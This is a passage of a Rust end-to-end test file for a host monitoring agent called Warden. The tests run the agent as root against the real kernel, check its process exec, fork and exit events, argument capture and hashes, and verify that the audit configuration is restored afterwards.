//! End to end: the real agent binary (`warden run`) against the real kernel, as root.
//!
//! Each test writes a config pointing at a fresh data dir, starts the agent, waits for its status
//! file, makes processes do things, polls `warden events` until the events are there, stops the
//! agent with SIGTERM and checks what it recorded. The agent takes global kernel state (the audit
//! daemon slot, audit rules, the enabled flag and backlog settings), so the tests run one at a
//! time under `SERIAL` (and a lock file against another run of this file), and each one
//! asserts at the end that `auditctl -s` / `auditctl -l` show exactly what they showed before it
//! started. Guards stop the agent (SIGTERM, then SIGKILL by
//! pid) and every helper process when a test panics. Without root every test prints why and
//! passes without doing anything; so does a test that finds another Warden's rules installed.
//! The acting processes of the network and file tests are `examples/actor.rs`.

#[path = "../../warden-sources/tests/support/dns.rs"]
mod dns;
#[path = "support/fuse.rs"]
mod fuse;
#[path = "../../warden-sources/tests/support/ia32.rs"]
mod ia32;

use std::ffi::{OsStr, OsString};
use std::io::{BufRead, BufReader, Write};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::Value;

/// How long any wait in these tests may take (agent ready, events stored, a process exiting).
const DEADLINE: Duration = Duration::from_secs(10);
/// How long the agent's stop may take. Its last part is the kernel's: each of its ~60 syscall
/// tracepoints' detach waits for RCU grace periods under one kernel lock (about 2.4 s in all
/// on an idle machine here; several times that when the machine is busy).
const STOP_DEADLINE: Duration = Duration::from_secs(30);

static SERIAL: Mutex<()> = Mutex::new(());

/// Held for a whole test: the mutex serializes this file's tests, the lock file serializes them
/// with another run of this file (another checkout, another session) on the same kernel.
struct Serial {
    _lock: Option<nix::fcntl::Flock<std::fs::File>>,
    _guard: MutexGuard<'static, ()>,
}

fn serial() -> Serial {
    let guard = SERIAL.lock().unwrap_or_else(PoisonError::into_inner);
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open("/run/lock/warden-agent-tests.lock")
        .ok()
        .and_then(|f| nix::fcntl::Flock::lock(f, nix::fcntl::FlockArg::LockExclusive).ok());
    Serial {
        _lock: lock,
        _guard: guard,
    }
}

/// Pids of running `warden run` processes (another session's agent or benchmark).
fn other_agents() -> Vec<u32> {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let mut args = cmdline.split(|b| *b == 0);
            let exe = args.next().unwrap_or_default();
            exe.ends_with(b"/warden") && args.next() == Some(b"run".as_slice())
        })
        .collect()
}

/// Another Warden on this host would lose its audit rules to ours (removed as stale at start)
/// and change the audit state under our checks; its load also skews timings. Waits a while for
/// it to stop; false (and says why) when it does not.
fn no_other_warden(test: &str) -> bool {
    let deadline = Instant::now() + DEADLINE;
    loop {
        let agents = other_agents();
        let rules = audit_state().rules.contains("key=warden");
        if agents.is_empty() && !rules {
            return true;
        }
        if Instant::now() > deadline {
            eprintln!(
                "skipping {test}: another Warden agent is running here (warden run pids \
                 {agents:?}, warden audit rules installed: {rules}); this test would disturb it \
                 and be disturbed"
            );
            return false;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Whether this test can run here; prints why not.
fn can_run(test: &str) -> bool {
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipping {test}: needs root (audit netlink, process connector)");
        return false;
    }
    if Command::new("auditctl").arg("-s").output().is_err() {
        eprintln!("skipping {test}: auditctl is not installed (needed to check the audit state)");
        return false;
    }
    true
}

/// The start of every test here: whether it can run (root, auditctl, no other Warden; says why
/// not), then the lock that serializes it and the audit state it must leave as found.
fn begin(test: &str) -> Option<(Serial, Kernel)> {
    if !can_run(test) {
        return None;
    }
    let serial = serial();
    if !no_other_warden(test) {
        return None;
    }
    Some((serial, Kernel::capture()))
}

fn warden() -> PathBuf {
    assert_cmd::cargo::cargo_bin("warden")
}

/// Waits for `f` to give a value, at most `DEADLINE`.
fn poll<T>(what: &str, mut f: impl FnMut() -> Option<T>) -> T {
    let deadline = Instant::now() + DEADLINE;
    loop {
        if let Some(value) = f() {
            return value;
        }
        assert!(
            Instant::now() < deadline,
            "timed out after {DEADLINE:?} waiting for {what}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

// ---------------------------------------------------------------------------------------------
// The kernel's audit state, as auditctl shows it.

#[derive(Clone, Debug, PartialEq, Eq)]
struct AuditState {
    enabled: String,
    pid: String,
    backlog_limit: String,
    backlog_wait_time: String,
    rules: String,
}

fn auditctl(args: &[&str]) -> String {
    let out = Command::new("auditctl")
        .args(args)
        .output()
        .expect("auditctl runs");
    assert!(
        out.status.success(),
        "auditctl {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn audit_state() -> AuditState {
    let s = auditctl(&["-s"]);
    let field = |key: &str| {
        s.lines()
            .find_map(|l| l.strip_prefix(key)?.strip_prefix(' '))
            .unwrap_or_else(|| panic!("no {key} in auditctl -s:\n{s}"))
            .trim()
            .to_string()
    };
    AuditState {
        enabled: field("enabled"),
        pid: field("pid"),
        backlog_limit: field("backlog_limit"),
        backlog_wait_time: field("backlog_wait_time"),
        rules: auditctl(&["-l"]),
    }
}

/// The audit state a test must leave as it found it. `check()` asserts the agent restored it;
/// when a test panics, drop puts back what it can so the next test starts clean.
struct Kernel {
    before: AuditState,
}

impl Kernel {
    fn capture() -> Kernel {
        Kernel {
            before: audit_state(),
        }
    }

    fn check(&self) {
        assert_eq!(
            audit_state(),
            self.before,
            "the kernel's audit state differs from before the test"
        );
    }
}

impl Drop for Kernel {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            return;
        }
        let Ok(now) = std::panic::catch_unwind(audit_state) else {
            return;
        };
        if now == self.before {
            return;
        }
        eprintln!(
            "test failed with the audit state changed; restoring\n before: {:?}\n now:    {now:?}",
            self.before
        );
        let run = |args: &[&str]| {
            let _ = Command::new("auditctl").args(args).output();
        };
        if now.rules != self.before.rules {
            run(&["-D", "-k", "warden"]);
        }
        if now.backlog_limit != self.before.backlog_limit {
            run(&["-b", &self.before.backlog_limit]);
        }
        if now.backlog_wait_time != self.before.backlog_wait_time {
            run(&["--backlog_wait_time", &self.before.backlog_wait_time]);
        }
        if now.enabled != self.before.enabled && now.enabled != "2" {
            run(&["-e", &self.before.enabled]);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Processes: the agent and the helpers, stopped by pid whatever happens.

fn signal(pid: u32, sig: Signal) {
    let _ = kill(Pid::from_raw(pid as i32), sig);
}

/// Waits for a child to exit, at most `limit`.
fn wait_child(child: &mut Child, limit: Duration) -> Option<ExitStatus> {
    let deadline = Instant::now() + limit;
    loop {
        if let Some(status) = child.try_wait().expect("waitpid") {
            return Some(status);
        }
        if Instant::now() >= deadline {
            return None;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A helper process, killed by pid when dropped while still running.
struct Proc {
    child: Child,
}

impl Proc {
    fn spawn(cmd: &mut Command) -> Proc {
        Proc {
            child: cmd.spawn().expect("spawn helper process"),
        }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn wait(&mut self) -> ExitStatus {
        wait_child(&mut self.child, DEADLINE)
            .unwrap_or_else(|| panic!("process {} did not exit in {DEADLINE:?}", self.pid()))
    }
}

impl Drop for Proc {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            signal(self.pid(), Signal::SIGKILL);
            let _ = self.child.wait();
        }
    }
}

/// Which of the agent's outputs the test reads ([`Agent::start_piped`]).
#[derive(Clone, Copy, PartialEq, Eq)]
enum Piped {
    None,
    Stdout,
    Stderr,
}

/// A running `warden run` with its own data dir. Dropped while running (a failed test), it is
/// sent SIGTERM so it restores the audit state, and SIGKILL by pid if it does not stop.
struct Agent {
    child: Child,
    _dir: tempfile::TempDir,
    data: PathBuf,
    log: PathBuf,
    stopped: bool,
    /// Started in a mount namespace of its own ([`Agent::start_on_tmpfs`]).
    in_namespace: bool,
}

impl Agent {
    /// Starts the agent with `extra` appended to its config; returns once it wrote its status.
    /// File events are off unless `extra` has a `[files]` table: the host's other activity
    /// (builds, other tests) would flood the store the process tests read whole.
    fn start(extra: &str) -> Agent {
        Agent::launch(
            extra,
            None,
            tempfile::tempdir().expect("tempdir"),
            Piped::None,
        )
    }

    /// Starts the agent with its standard output or error piped to the test (`child.stdout`,
    /// `child.stderr`; its log is then empty).
    fn start_piped(extra: &str, piped: Piped) -> Agent {
        Agent::launch(extra, None, tempfile::tempdir().expect("tempdir"), piped)
    }

    /// Starts the agent on `dir`, prepared by the test: its data dir is `dir/data`.
    fn start_in(extra: &str, dir: tempfile::TempDir) -> Agent {
        Agent::launch(extra, None, dir, Piped::None)
    }

    /// Starts the agent in a mount namespace of its own, where a tmpfs of `size` ("24m") is
    /// mounted on `mount` (an empty directory the test owns) and holds its data dir. The mount
    /// ends with the agent's namespace, however the test ends: nothing is mounted on the host.
    /// The test reaches the tmpfs through `/proc/PID/root` ([`Agent::mounted`]).
    fn start_on_tmpfs(extra: &str, mount: &Path, size: &str) -> Agent {
        Agent::launch(
            extra,
            Some((mount, size)),
            tempfile::tempdir().expect("tempdir"),
            Piped::None,
        )
    }

    /// `path` as the test sees it: through `/proc/PID/root` when the agent has a mount
    /// namespace of its own.
    fn mounted(&self, path: &Path) -> PathBuf {
        if !self.in_namespace {
            return path.to_path_buf();
        }
        let mut seen = PathBuf::from(format!("/proc/{}/root", self.pid()));
        seen.push(path.strip_prefix("/").unwrap_or(path));
        seen
    }

    /// A `warden` command that sees what the agent sees: in its mount namespace, if it has its
    /// own (SQLite resolves the symbolic link `/proc/PID/root` back to this namespace's `/`).
    fn warden(&self) -> Command {
        if !self.in_namespace {
            return Command::new(warden());
        }
        let mut enter = Command::new("nsenter");
        enter
            .arg(format!("--mount=/proc/{}/ns/mnt", self.pid()))
            .arg("--")
            .arg(warden());
        enter
    }

    fn launch(
        extra: &str,
        tmpfs: Option<(&Path, &str)>,
        dir: tempfile::TempDir,
        piped: Piped,
    ) -> Agent {
        let data = match tmpfs {
            Some((mount, _)) => mount.join("data"),
            None => dir.path().join("data"),
        };
        let config = dir.path().join("warden.toml");
        let files = if extra.contains("[files]") {
            ""
        } else {
            "\n[files]\nsource = \"off\"\n"
        };
        std::fs::write(
            &config,
            format!("data_dir = {:?}\n{extra}{files}", data.display()),
        )
        .expect("write config");
        let log = dir.path().join("agent.log");
        let mut command = match tmpfs {
            None => {
                let mut run = Command::new(warden());
                run.arg("run").arg("--config").arg(&config);
                run
            }
            // unshare execs the shell, which execs the agent: one pid throughout.
            Some((mount, size)) => {
                let mut run = Command::new("unshare");
                run.args(["--mount", "--propagation", "private", "sh", "-c"])
                    .arg(r#"mount -t tmpfs -o size="$1" warden-test "$2" && exec "$3" run --config "$4""#)
                    .args(["sh".as_ref(), size.as_ref(), mount.as_os_str()])
                    .arg(warden())
                    .arg(&config);
                run
            }
        };
        let child = command
            .stdin(Stdio::null())
            .stdout(match piped {
                Piped::Stdout => Stdio::piped(),
                _ => Stdio::null(),
            })
            .stderr(match piped {
                Piped::Stderr => Stdio::piped(),
                _ => std::fs::File::create(&log).expect("agent log").into(),
            })
            .spawn()
            .expect("start warden run");
        let mut agent = Agent {
            child,
            _dir: dir,
            data,
            log,
            stopped: false,
            in_namespace: false,
        };
        agent.in_namespace = tmpfs.is_some();
        let status_file = agent.mounted(&agent.data).join("status.json");
        let deadline = Instant::now() + DEADLINE;
        while !status_file.exists() {
            if let Some(status) = agent.child.try_wait().expect("waitpid") {
                agent.stopped = true;
                panic!(
                    "warden run exited ({status}) before it was ready:\n{}",
                    agent.log()
                );
            }
            assert!(
                Instant::now() < deadline,
                "warden run wrote no status in {DEADLINE:?}:\n{}",
                agent.log()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        agent
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// `warden status --json` for this agent's data dir.
    /// What the agent's status says of source `name` (which parts run, from where).
    fn source_detail(&self, name: &str) -> String {
        let status = self.status();
        let source = status_source(&status, name).unwrap_or_else(|| panic!("no {name}: {status}"));
        source["detail"].as_str().unwrap_or_default().to_owned()
    }

    /// Waits until the agent has caught up with what happened: two status reports in a row
    /// (a second apart) with no event recorded or lost between them. Read from its status
    /// file: `warden status` would be events of its own.
    fn wait_until_quiet(&self) {
        let file = self.mounted(&self.data.join("status.json"));
        let mut last: Option<Value> = None;
        poll("the agent to catch up", || {
            let now: Value = serde_json::from_slice(&std::fs::read(&file).ok()?).ok()?;
            let newer = last
                .as_ref()
                .is_none_or(|last| last["updated_ns"] != now["updated_ns"]);
            if !newer {
                return None;
            }
            let same = |key: &str| last.as_ref().is_some_and(|last| last[key] == now[key]);
            let quiet = same("events") && same("lost");
            last = Some(now);
            quiet.then_some(())
        });
    }

    fn status(&self) -> Value {
        let out = self
            .warden()
            .arg("status")
            .arg("--data-dir")
            .arg(&self.data)
            .arg("--json")
            .output()
            .expect("warden status runs");
        // 2 and 3 say the agent stopped or its status is stale: a status is printed all the
        // same, and the tests read what it says.
        assert!(
            matches!(out.status.code(), Some(0 | 2 | 3)),
            "warden status failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).expect("status is JSON")
    }

    /// SIGTERM, then waits for a clean exit.
    fn stop(&mut self) {
        signal(self.pid(), Signal::SIGTERM);
        let status = wait_child(&mut self.child, STOP_DEADLINE);
        self.stopped = true;
        let Some(status) = status else {
            signal(self.pid(), Signal::SIGKILL);
            let _ = self.child.wait();
            panic!(
                "warden run did not stop within {STOP_DEADLINE:?} of SIGTERM:\n{}",
                self.log()
            );
        };
        assert!(
            status.success(),
            "warden run exited with {status}:\n{}",
            self.log()
        );
    }

    /// Every recorded event matching `args`, as JSON.
    fn events(&self, args: &[&str]) -> Vec<Value> {
        let text = self.events_output(args, "json");
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON line {l:?}: {e}")))
            .collect()
    }

    /// The rows of `warden query --csv SQL` over the agent's store, without the header.
    fn query_rows(&self, sql: &str) -> Vec<String> {
        let out = Command::new(warden())
            .args(["query", "--csv", "--data-dir"])
            .arg(&self.data)
            .arg(sql)
            .output()
            .unwrap();
        let csv = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{sql}: {csv}");
        csv.lines().skip(1).map(str::to_owned).collect()
    }

    fn events_output(&self, args: &[&str], format: &str) -> String {
        let out = self.events_command(args, format);
        assert!(
            out.status.success(),
            "warden events {args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).expect("events output is UTF-8")
    }

    fn events_command(&self, args: &[&str], format: &str) -> std::process::Output {
        self.warden()
            .arg("events")
            .arg("--data-dir")
            .arg(&self.data)
            .args(["--format", format])
            .args(args)
            .output()
            .expect("warden events runs")
    }

    /// Polls `warden events` (all events) until `done` says they are complete.
    fn wait_for(&self, what: &str, done: impl Fn(&[Value]) -> bool) -> Vec<Value> {
        self.wait_for_matching(&[], what, done)
    }

    /// Polls `warden events ARGS` until `done` says they are complete.
    fn wait_for_matching(
        &self,
        args: &[&str],
        what: &str,
        done: impl Fn(&[Value]) -> bool,
    ) -> Vec<Value> {
        self.wait_for_explained(args, what, DEADLINE, done, |_| String::new())
    }

    /// [`Agent::wait_for_matching`] for at most `limit`, saying with `explain` what the events
    /// it had were, if they never were complete.
    fn wait_for_explained(
        &self,
        args: &[&str],
        what: &str,
        limit: Duration,
        done: impl Fn(&[Value]) -> bool,
        explain: impl Fn(&[Value]) -> String,
    ) -> Vec<Value> {
        let deadline = Instant::now() + limit;
        loop {
            let out = self.events_command(args, "json");
            let events: Vec<Value> = if out.status.success() {
                String::from_utf8_lossy(&out.stdout)
                    .lines()
                    .filter_map(|l| serde_json::from_str(l).ok())
                    .collect()
            } else {
                Vec::new()
            };
            if done(&events) {
                return events;
            }
            assert!(
                Instant::now() < deadline,
                "timed out after {limit:?} waiting for {what}; {} events recorded{}; agent log:\n{}",
                events.len(),
                explain(&events),
                self.log()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        if self.stopped {
            return;
        }
        signal(self.pid(), Signal::SIGTERM);
        if wait_child(&mut self.child, Duration::from_secs(5)).is_none() {
            signal(self.pid(), Signal::SIGKILL);
            let _ = self.child.wait();
        }
        eprintln!("agent log:\n{}", self.log());
    }
}

// ---------------------------------------------------------------------------------------------
// Events, identities and files.

fn action(e: &Value) -> &str {
    e["event"]["action"].as_str().unwrap_or_default()
}

fn pid_of(e: &Value) -> u64 {
    e["process"]["pid"].as_u64().unwrap_or(0)
}

fn entity_of(e: &Value) -> &str {
    e["process"]["entity_id"].as_str().unwrap_or_default()
}

fn find<'a>(events: &'a [Value], act: &str, pred: impl Fn(&Value) -> bool) -> Option<&'a Value> {
    events.iter().find(|e| action(e) == act && pred(e))
}

fn has(events: &[Value], act: &str, pred: impl Fn(&Value) -> bool) -> bool {
    find(events, act, pred).is_some()
}

fn the<'a>(events: &'a [Value], act: &str, what: &str, pred: impl Fn(&Value) -> bool) -> &'a Value {
    find(events, act, pred).unwrap_or_else(|| panic!("no {act} event for {what}"))
}

/// /proc/PID/stat: (state, start time in clock ticks, field 22), while the process lives.
fn proc_stat(pid: u32) -> Option<(char, u64)> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let rest = &stat[stat.rfind(')')? + 1..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    // `rest` starts at field 3 (state); field 22 is 19 further on.
    Some((
        fields.first()?.chars().next()?,
        fields.get(19)?.parse().ok()?,
    ))
}

fn start_ticks(pid: u32) -> u64 {
    proc_stat(pid)
        .unwrap_or_else(|| panic!("/proc/{pid}/stat unreadable"))
        .1
}

fn boot_short() -> String {
    let id = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").expect("boot id");
    id.trim().replace('-', "")[..8].to_string()
}

fn entity(pid: u32, ticks: u64) -> String {
    format!("{}-{pid}-{ticks}", boot_short())
}

/// Checks an entity id has the form `<8 hex>-<pid>-<start ticks>` for this boot and pid.
fn check_entity_form(id: &str, pid: u64) {
    let parts: Vec<&str> = id.split('-').collect();
    assert_eq!(parts.len(), 3, "entity id {id:?}");
    assert!(
        parts[0].len() == 8 && parts[0].bytes().all(|b| b.is_ascii_hexdigit()),
        "entity id {id:?}"
    );
    assert_eq!(parts[0], boot_short(), "entity id {id:?}: boot");
    assert_eq!(parts[1], pid.to_string(), "entity id {id:?}: pid");
    assert!(parts[2].parse::<u64>().is_ok(), "entity id {id:?}: ticks");
}

fn sha256(path: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg(path)
        .output()
        .expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .expect("a digest")
        .to_string()
}

/// The sha256 of `bytes`, hex (computed here: a `sha256sum` started beside a running agent
/// fails execs along PATH that name this test binary, which a debug agent takes long to hash).
fn sha256_of(bytes: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A work dir (canonical path) holding a copy of /bin/true named `name`.
fn true_copy(name: &str) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("tempdir");
    let exe = std::fs::canonicalize(dir.path()).unwrap().join(name);
    std::fs::copy("/bin/true", &exe).expect("copy /bin/true");
    (dir, exe)
}

fn canonical(path: &str) -> String {
    std::fs::canonicalize(path)
        .unwrap()
        .to_string_lossy()
        .into_owned()
}

fn s(path: &Path) -> String {
    path.to_str().expect("UTF-8 temp path").to_string()
}

fn strings(v: &Value) -> Vec<String> {
    v.as_array()
        .unwrap_or_else(|| panic!("not an array: {v}"))
        .iter()
        .map(|a| a.as_str().expect("a string").to_string())
        .collect()
}

// ---------------------------------------------------------------------------------------------
// The tests.

/// The config that makes `source` the process source.
fn process_source(source: &str) -> String {
    format!("[sources]\nprocess = {source:?}\n")
}

/// A shell forks a child that stops itself, then execs a copy of /bin/true with odd arguments;
/// the shell exits 7. The exec, fork and exit events carry the exact argv, the hash, and the
/// identities /proc gives for both processes.
#[test]
fn forked_exec_carries_exact_argv_hash_and_identities() {
    forked_exec("forked_exec_carries_exact_argv_hash_and_identities", "ebpf");
}

#[test]
fn forked_exec_carries_exact_argv_hash_and_identities_from_audit() {
    forked_exec(
        "forked_exec_carries_exact_argv_hash_and_identities_from_audit",
        "audit",
    );
}

fn forked_exec(test: &str, source: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&process_source(source));
    // The status names the process source in use, and the other as not needed.
    let status = agent.status();
    let state = |name: &str| {
        status["sources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["name"] == name)
            .map(|s| s["active"].as_bool().unwrap())
    };
    assert_eq!(state("ebpf"), Some(source == "ebpf"), "{status}");
    assert_eq!(state("proc_connector"), Some(source == "audit"), "{status}");
    let (_work, exe) = true_copy("warden-e2e-odd");
    let digest = sha256(&exe);

    let long: String = (0..5000)
        .map(|i| char::from(b'a' + (i % 26) as u8))
        .collect();
    let odd: Vec<OsString> = vec![
        "two words here".into(),
        r#"it's "quoted" twice'"#.into(),
        "line one\nline two".into(),
        OsStr::from_bytes(b"raw\xff\xfe bytes \xc3\xa9 end\x80").into(),
        long.clone().into(),
        "".into(),
        "last".into(),
    ];
    let expected_odd = [
        "two words here",
        r#"it's "quoted" twice'"#,
        "line one\nline two",
        "raw\\xff\\xfe bytes é end\\x80",
        &long,
        "",
        "last",
    ];
    // The child stops itself so the test can read its start time, then execs the copy.
    let script = "sh -c 'kill -STOP $$; exec \"$@\"' child \"$@\" &\necho $!\nwait $!\nexit 7\n";
    let mut tree = Proc::spawn(
        Command::new("/bin/sh")
            .arg("-c")
            .arg(script)
            .arg("tree")
            .arg(&exe)
            .args(&odd)
            .stdout(Stdio::piped()),
    );
    let shell = tree.pid();
    let shell_ticks = start_ticks(shell);
    let mut line = String::new();
    BufReader::new(tree.child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let child: u32 = line.trim().parse().expect("the child's pid");
    let child_ticks = poll("the child to stop itself", || {
        proc_stat(child).and_then(|(state, ticks)| (state == 'T').then_some(ticks))
    });
    signal(child, Signal::SIGCONT);
    assert_eq!(tree.wait().code(), Some(7));

    let (shell, child) = (u64::from(shell), u64::from(child));
    let exe_s = s(&exe);
    let events = agent.wait_for("the tree's exec, fork and exit events", |ev| {
        has(ev, "exec", |e| {
            pid_of(e) == child && e["process"]["executable"] == exe_s.as_str()
        }) && has(ev, "exit", |e| pid_of(e) == child)
            && has(ev, "exit", |e| pid_of(e) == shell)
            && has(ev, "fork", |e| pid_of(e) == child)
    });
    let shell_entity = entity(shell as u32, shell_ticks);
    let child_entity = entity(child as u32, child_ticks);

    let exec = the(&events, "exec", "the copy of true", |e| {
        pid_of(e) == child && e["process"]["executable"] == exe_s.as_str()
    });
    let p = &exec["process"];
    assert_eq!(p["executable"], exe_s.as_str());
    let mut args = vec![exe_s.clone()];
    args.extend(expected_odd.iter().map(|a| a.to_string()));
    assert_eq!(strings(&p["args"]), args, "argv");
    assert_eq!(p["args_count"], args.len());
    assert_eq!(p["pid"], child);
    assert_eq!(p["parent"]["pid"], shell);
    assert_eq!(p["hash"]["sha256"], digest.as_str());
    assert_eq!(exec["user"]["id"], "0");
    assert_eq!(exec["warden"]["source"], source);
    assert_eq!(exec["event"]["outcome"], "success");
    let mine = |e: &&Value| [shell, child].contains(&pid_of(e));
    let ours: Vec<&Value> = events.iter().filter(mine).collect();
    for e in &ours {
        assert!(
            !entity_of(e).is_empty(),
            "an event without entity id: {e}\nall events of the tree: {ours:#?}\nstatus: {}",
            agent.status()
        );
    }
    check_entity_form(entity_of(exec), child);
    assert_eq!(
        entity_of(exec),
        child_entity,
        "child's start ticks from /proc"
    );
    assert_eq!(p["parent"]["entity_id"], shell_entity.as_str());

    // The shell's own events carry the entity id its child names as parent.
    let shell_exec = the(&events, "exec", "the shell", |e| pid_of(e) == shell);
    assert_eq!(entity_of(shell_exec), shell_entity, "{shell_exec}");
    assert_eq!(
        strings(&shell_exec["process"]["args"])[..4],
        ["/bin/sh", "-c", script, "tree"]
    );
    let shell_exit = the(&events, "exit", "the shell", |e| pid_of(e) == shell);
    assert_eq!(entity_of(shell_exit), shell_entity);
    assert_eq!(shell_exit["process"]["exit_code"], 7);

    // The fork: child is that pid, parent the shell.
    let fork = the(&events, "fork", "the child", |e| pid_of(e) == child);
    assert_eq!(entity_of(fork), child_entity);
    assert_eq!(fork["process"]["parent"]["pid"], shell);
    assert_eq!(
        fork["process"]["parent"]["entity_id"],
        shell_entity.as_str()
    );

    // The child's exit: true's code, the same identity as its exec.
    let exit = the(&events, "exit", "the child", |e| pid_of(e) == child);
    assert_eq!(exit["process"]["exit_code"], 0);
    assert_eq!(entity_of(exit), entity_of(exec));

    // One identity for the child across fork, both execs (sh, then the copy) and exit.
    let mine: Vec<&Value> = events.iter().filter(|e| pid_of(e) == child).collect();
    assert!(mine.len() >= 4, "fork, exec sh, exec true, exit: {mine:?}");
    for e in mine {
        assert_eq!(entity_of(e), child_entity, "{e}");
    }
    for e in events
        .iter()
        .filter(|e| [shell, child].contains(&pid_of(e)))
    {
        check_entity_form(entity_of(e), pid_of(e));
    }
    // Other processes' events: every one should have an identity too; report those without.
    let keyless: Vec<&Value> = events
        .iter()
        .filter(|e| e["process"].is_object() && entity_of(e).is_empty())
        .collect();
    if !keyless.is_empty() {
        eprintln!(
            "{} of {} events have no entity id, e.g. {}\nstatus: {}",
            keyless.len(),
            events.len(),
            keyless[0],
            agent.status()
        );
    }

    agent.stop();
    kernel.check();
}

/// Processes running before the agent started are known from the /proc scan: a child of one
/// names it as parent with the right identity, and their exits carry executable and args.
#[test]
fn processes_started_before_the_agent_are_known() {
    let Some((_serial, kernel)) = begin("processes_started_before_the_agent_are_known") else {
        return;
    };
    let (_work, exe) = true_copy("warden-e2e-pre");
    let exe_s = s(&exe);
    let mut sleeper = Proc::spawn(Command::new("/bin/sleep").arg("30"));
    let script = "read line\n\"$0\" pre-child \"$line\"\nexit 5\n";
    let mut waiter = Proc::spawn(
        Command::new("/bin/sh")
            .args(["-c", script])
            .arg(&exe)
            .stdin(Stdio::piped()),
    );
    let (sleeper_pid, waiter_pid) = (sleeper.pid(), waiter.pid());
    let sleeper_entity = entity(sleeper_pid, start_ticks(sleeper_pid));
    let waiter_entity = entity(waiter_pid, start_ticks(waiter_pid));

    let mut agent = Agent::start("");
    let mut stdin: ChildStdin = waiter.child.stdin.take().unwrap();
    stdin.write_all(b"go on\n").unwrap();
    drop(stdin);
    assert_eq!(waiter.wait().code(), Some(5));
    signal(sleeper_pid, Signal::SIGTERM);
    sleeper.wait();

    let (sleeper_pid, waiter_pid) = (u64::from(sleeper_pid), u64::from(waiter_pid));
    let events = agent.wait_for("the pre-existing processes' events", |ev| {
        has(ev, "exec", |e| e["process"]["executable"] == exe_s.as_str())
            && has(ev, "exit", |e| pid_of(e) == waiter_pid)
            && has(ev, "exit", |e| pid_of(e) == sleeper_pid)
    });
    let sh = canonical("/bin/sh");
    let waiter_args = ["/bin/sh", "-c", script, &exe_s];

    let exec = the(&events, "exec", "the pre-existing shell's child", |e| {
        e["process"]["executable"] == exe_s.as_str()
    });
    let parent = &exec["process"]["parent"];
    assert_eq!(parent["pid"], waiter_pid);
    assert_eq!(parent["entity_id"], waiter_entity.as_str());
    assert_eq!(parent["executable"], sh.as_str());
    assert_eq!(strings(&parent["args"]), waiter_args);
    assert_eq!(
        strings(&exec["process"]["args"]),
        [&exe_s, "pre-child", "go on"]
    );
    let child = pid_of(exec);
    let fork = the(&events, "fork", "the child", |e| pid_of(e) == child);
    assert_eq!(
        fork["process"]["parent"]["entity_id"],
        waiter_entity.as_str()
    );
    assert_eq!(entity_of(fork), entity_of(exec));

    let exit = the(&events, "exit", "the shell", |e| pid_of(e) == waiter_pid);
    assert_eq!(entity_of(exit), waiter_entity);
    assert_eq!(exit["process"]["exit_code"], 5);
    assert_eq!(exit["process"]["executable"], sh.as_str());
    assert_eq!(strings(&exit["process"]["args"]), waiter_args);

    let exit = the(&events, "exit", "sleep", |e| pid_of(e) == sleeper_pid);
    assert_eq!(entity_of(exit), sleeper_entity);
    assert_eq!(exit["warden"]["signal"], 15);
    assert!(exit["process"]["exit_code"].is_null(), "{exit}");
    assert_eq!(
        exit["process"]["executable"],
        canonical("/bin/sleep").as_str()
    );
    assert_eq!(strings(&exit["process"]["args"]), ["/bin/sleep", "30"]);

    agent.stop();
    kernel.check();
}

/// Processes gone within a millisecond still get complete exec events: the eBPF record (or the
/// audit records) carry argv and executable, and the hash is of the file.
#[test]
fn short_lived_processes_get_complete_exec_events() {
    short_lived("short_lived_processes_get_complete_exec_events", "ebpf");
}

#[test]
fn short_lived_processes_get_complete_exec_events_from_audit() {
    short_lived(
        "short_lived_processes_get_complete_exec_events_from_audit",
        "audit",
    );
}

fn short_lived(test: &str, source: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&process_source(source));
    let (_work, exe) = true_copy("warden-e2e-quick");
    let exe_s = s(&exe);
    let digest = sha256(&exe);
    let mut pids = Vec::new();
    for i in 0..10 {
